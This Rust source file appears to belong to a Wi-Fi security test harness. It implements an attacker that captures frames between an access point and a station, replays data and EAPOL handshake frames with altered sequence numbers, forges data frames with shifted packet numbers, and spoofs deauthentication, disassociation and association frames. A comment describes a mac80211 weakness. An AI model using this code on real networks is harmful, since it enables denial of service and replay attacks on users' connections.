//! An attacker who hears both ends, sends in their names, and knows no key.

use wlan_bss::{LISTEN_INTERVAL, Outbox};
use wlan_frames::management::{Body, reason};
use wlan_frames::{DataFrame, DataHeader, EtherType, FrameControl, LlcSnap, MacAddr, Management};

use crate::config::{CAPABILITY, Order};

/// Offset of Sequence Control in a Data or management frame (9.2.4.4).
const SEQUENCE_AT: usize = 22;
/// Frames of each kind that the attacker keeps per direction.
const KEPT: usize = 8;
/// Added to the sequence number of a frame that is sent again: the receiver must not take it for a retransmission.
const SEQUENCE_STEP: u16 = 1000 << 4;
/// Added to the first octet of the security header: PN0 of CCMP and GCMP, TSC1 of TKIP (12.5.2.2, 12.5.3.2). The high 32
/// bits of the TSC stay: mac80211 keeps the phase 1 key of a forged frame and then opens no frame of the real sender.
const PN_STEP: u8 = 64;

/// An attacker.
pub struct Attacker {
    /// The access point and the station.
    victims: [MacAddr; 2],
    /// Sealed frames of the access point and of the station.
    sealed: [Vec<Vec<u8>>; 2],
    /// Unencrypted EAPOL frames of both.
    handshake: Vec<Vec<u8>>,
    pub out: Outbox,
}

impl Attacker {
    /// An attacker on an access point and its station.
    pub fn new(victims: [MacAddr; 2]) -> Self {
        Self {
            victims,
            sealed: Default::default(),
            handshake: Vec::new(),
            out: Outbox::default(),
        }
    }

    /// Records a frame.
    pub fn receive(&mut self, mpdu: &[u8]) {
        let Ok(frame) = DataFrame::parse(mpdu) else { return };
        let from = frame.transmitter();
        let Some(side) = self.victims.iter().position(|&victim| victim == from) else {
            return;
        };
        if frame.receiver() != self.victims[1 - side] {
            return;
        }
        if frame.is_protected() {
            self.sealed[side].push(mpdu.to_vec());
            if self.sealed[side].len() > KEPT {
                self.sealed[side].remove(0);
            }
        } else if LlcSnap::parse(&mpdu[frame.header_len()..])
            .is_ok_and(|snap| snap.ethertype == EtherType::EAPOL)
        {
            self.handshake.push(mpdu.to_vec());
        }
    }

    /// Executes an order.
    pub fn perform(&mut self, order: Order) {
        match order {
            Order::ReplayData => {
                let frames = self.sealed.iter().flatten().map(|mpdu| again(mpdu));
                self.out.frames.extend(frames);
            }
            Order::ReplayHandshake => {
                let frames = self.handshake.iter().map(|mpdu| again(mpdu));
                self.out.frames.extend(frames);
            }
            Order::ForgeData => {
                let frames = self.sealed.iter().flatten().map(|mpdu| forged(mpdu));
                self.out.frames.extend(frames);
            }
            Order::ForgeDeauthentication => self.forge_deauthentication(),
            Order::ForgeAssociation => {
                let [bssid, station] = self.victims;
                let request = Body::AssociationRequest {
                    capability: CAPABILITY,
                    listen_interval: LISTEN_INTERVAL,
                    elements: &[],
                };
                self.manage(bssid, station, bssid, request);
            }
            _ => {}
        }
    }

    fn forge_deauthentication(&mut self) {
        let [bssid, station] = self.victims;
        let (reason, elements) = (reason::LEAVING, &[][..]);
        for (to, from) in [(station, bssid), (bssid, station), (MacAddr::BROADCAST, bssid)] {
            self.manage(to, from, bssid, Body::Deauthentication { reason, elements });
            self.manage(to, from, bssid, Body::Disassociation { reason, elements });
        }
    }

    fn manage(&mut self, to: MacAddr, from: MacAddr, bssid: MacAddr, body: Body<'_>) {
        let frame = Management {
            da: to,
            sa: from,
            bssid,
            sequence: 0,
            retry: false,
            protected: false,
            body,
        };
        self.out.frames.push(frame.to_vec());
    }
}

/// The frame with another sequence number, which no MIC covers.
fn again(mpdu: &[u8]) -> Vec<u8> {
    let mut octets = mpdu.to_vec();
    let field = &mut octets[SEQUENCE_AT..SEQUENCE_AT + 2];
    let sequence = u16::from_le_bytes([field[0], field[1]]).wrapping_add(SEQUENCE_STEP);
    field.copy_from_slice(&sequence.to_le_bytes());
    if let Ok(control) = FrameControl::parse(mpdu) {
        let first = control.with(FrameControl::RETRY, false);
        octets[..2].copy_from_slice(&first.0.to_le_bytes());
    }
    octets
}

/// The frame with a new packet number and an altered last octet.
fn forged(mpdu: &[u8]) -> Vec<u8> {
    let mut octets = again(mpdu);
    if let Ok(header) = DataHeader::parse(mpdu) {
        octets[header.len()] = octets[header.len()].wrapping_add(PN_STEP);
    }
    if let Some(last) = octets.last_mut() {
        *last ^= 1;
    }
    octets
}
